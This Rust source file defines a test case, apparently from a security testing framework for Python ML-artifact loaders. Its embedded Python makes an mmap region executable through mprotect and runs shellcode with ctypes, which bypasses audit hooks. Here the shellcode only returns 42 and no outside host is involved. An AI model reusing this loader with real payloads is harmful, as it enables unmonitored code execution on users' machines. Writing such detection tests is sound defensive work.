//! Machine code in memory that is made executable.

use super::*;

/// A few instructions that return 42.
pub const ATTACK: Attack = Attack {
    id: "shellcode",
    title: "machine code from the file",
    summary: "Bytes of the file are copied into memory, the memory is made executable, and the \
              bytes are called. From there on neither Python nor its audit hooks see anything. \
              These instructions only return a number, which is then written to a file.",
    severity: Severity::Critical,
    targets: Targets::Python(Loader::ALL),
    techniques: &[
        techniques::REFLECTIVE_CODE_LOADING,
        techniques::NATIVE_API,
        techniques::UNSAFE_ML_ARTIFACTS,
    ],
    cwe: &[502, 94],
    references: &[
        Reference {
            title: "Python documentation: ctypes",
            url: "https://docs.python.org/3/library/ctypes.html",
        },
        Reference {
            title: "Linux manual: mprotect(2)",
            url: "https://man7.org/linux/man-pages/man2/mprotect.2.html",
        },
    ],
    build,
    expected: Expected::Effect {
        aquarium: &[Sign::Created("answer.txt"), Sign::Happened(EventKind::ExecutableMemory, "")],
        policy: &[Evidence { kind: EventKind::ExecutableMemory, text: "" }],
    },
    quick: false,
};

/// Written first and made executable afterwards, so that processors which keep instructions in a cache
/// of their own fetch what was written.
const PROGRAM: &str = "import mmap, platform
code = {
    'x86_64': bytes.fromhex('b82a000000c3'),
    'aarch64': bytes.fromhex('40058052c0035fd6'),
}[platform.machine()]
memory = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
memory.write(code)
first = Byte.from_buffer(memory)
if libc('mprotect', _ctypes.byref(first), 4096, 7):
    raise PermissionError('mprotect')
answer = _ctypes.call_function(_ctypes.addressof(first), ())
";

fn build(scene: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
    let path = payload::quoted(&scene.path("answer.txt"));
    let write = format!("open({path}, 'w').write(str(answer))");
    payload::program(ATTACK.id, target, &[payload::LIBC, PROGRAM, &write].concat())
}
